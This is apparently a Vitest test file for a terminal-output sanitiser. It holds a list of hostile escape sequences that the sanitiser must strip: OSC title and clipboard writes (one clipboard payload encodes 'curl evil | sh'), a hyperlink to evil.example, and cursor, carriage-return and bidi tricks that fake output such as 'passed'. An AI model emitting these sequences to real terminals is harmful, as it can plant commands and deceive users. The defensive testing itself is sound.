import { describe, expect, it } from "vitest";
import { isTerminalSafe, stripAnsi, terminalLine, terminalText } from "./ansi.js";

const ESC = "\x1b";
const BEL = "\x07";

/** Every character a terminal could act on, apart from \n and \t. */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

/** Hostile strings: each one did something to a terminal when printed raw. */
const HOSTILE: ReadonlyArray<readonly [string, string]> = [
  ["a stray ESC before a CSI that hides an OSC (single-pass stripping leaves a live title change)", `${ESC}${ESC}[m]0;pwned-title${BEL}`],
  ["OSC 0 (window title)", `${ESC}]0;pwned-title${BEL}`],
  ["OSC 2 ended by ST", `${ESC}]2;pwned-title${ESC}\\`],
  ["OSC 52 (write the clipboard)", `${ESC}]52;c;${Buffer.from("curl evil | sh").toString("base64")}${BEL}`],
  ["OSC 8 hyperlink", `${ESC}]8;;https://evil.example/${ESC}\\click${ESC}]8;;${ESC}\\`],
  ["CSI cursor up and erase line", `real line\n${ESC}[1A${ESC}[2Kfake line`],
  ["CSI clear screen and home", `${ESC}[2J${ESC}[Hclean`],
  ["DCS (tmux passthrough)", `${ESC}Ptmux;${ESC}${ESC}]0;pwned${BEL}${ESC}\\`],
  ["8-bit CSI (U+009B)", "\u009b2J\u009b1Apwned"],
  ["8-bit OSC (U+009D) ended by 8-bit ST", "\u009d0;pwned-title\u009c"],
  ["every C1 control as a character", Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join("x")],
  ["a lone carriage return over a status", "status: failed\rstatus: completed"],
  ["backspaces over a word", "failed\b\b\b\b\b\bpassed"],
  ["BEL, NUL, DEL, vertical tab, form feed", `a${BEL}b\0c\x7fd\x0be\x0cf`],
  ["bidi override reversing text", "exit \u202e0 tixe\u202c"],
  ["an unterminated OSC swallowing nothing", `${ESC}]0;title without end\nnext line`],
  ["nested introducers", `${ESC}[${ESC}]${ESC}P${ESC}${ESC}[[m`],
];

describe("terminalText: what may reach a person's terminal", () => {
  it.each(HOSTILE)("leaves no control character from %s", (_what, text) => {
    const out = terminalText(text);
    expect(out).not.toMatch(CONTROL);
    expect(terminalText(out)).toBe(out);
    expect(isTerminalSafe(out)).toBe(true);
  });

  it("keeps printable text, unicode, newlines and tabs exactly", () => {
    const text = "ok\tdone: 3 passed ✓ — 日本語 🚀\n{braces} [brackets] ]0;not-an-escape\n";
    expect(terminalText(text)).toBe(text);
  });

  it("turns the finding's sequence into visible text instead of a live OSC", () => {
    expect(terminalText(`${ESC}${ESC}[m]0;title${BEL}after`)).toBe("]0;titleafter");
  });

  it("removes well-formed sequences whole, so the text reads as the program meant", () => {
    expect(terminalText(`${ESC}[31mred${ESC}[0m ${ESC}]0;t${BEL}plain ${ESC}(Bx`)).toBe("red plain x");
  });

  it("makes a carriage return a line break, so an overwritten word stays visible", () => {
    expect(terminalText("status: failed\rstatus: completed")).toBe("status: failed\nstatus: completed");
    expect(terminalText("a\r\nb\r\r\nc")).toBe("a\nb\nc");
  });

  it("terminalLine keeps one line: breaks and tabs become spaces", () => {
    expect(terminalLine("a\nb\t\tc\r\nd")).toBe("a b c d");
  });

  it("runs in linear time on 10 MB of hostile input", () => {
    const size = 10 * 1024 * 1024;
    const inputs = [
      `${ESC}]`.repeat(size / 2),
      `${ESC}]0;${"x".repeat(size)}`,
      "\u009d".repeat(size),
      `${ESC}[${"1;".repeat(size / 2)}`,
      `${ESC}P${"a".repeat(size)}`,
      "\r".repeat(size),
      `${ESC}${ESC}[m]0;t${BEL}`.repeat(size / 8),
    ];
    for (const input of inputs) {
      const out = terminalText(input);
      expect(out).not.toMatch(CONTROL);
    }
  }, 60_000);
});

describe("stripAnsi: the stored form of output", () => {
  it("removes sequences and leaves no introducer that could start one", () => {
    for (const [, text] of HOSTILE) expect(stripAnsi(text)).not.toMatch(/[\x1b\x80-\x9f]/);
    expect(stripAnsi(`${ESC}${ESC}[m]0;title${BEL}`)).toBe(`]0;title${BEL}`);
  });

  it("keeps the text itself, carriage returns included, and turns CRLF into LF", () => {
    expect(stripAnsi(`${ESC}[32mok${ESC}[0m\r\n10%\r20%\r\r\n`)).toBe("ok\n10%\r20%\n");
  });

  it("runs in linear time on 10 MB of carriage returns", () => {
    expect(stripAnsi("\r".repeat(10 * 1024 * 1024)).length).toBe(10 * 1024 * 1024);
  });
});
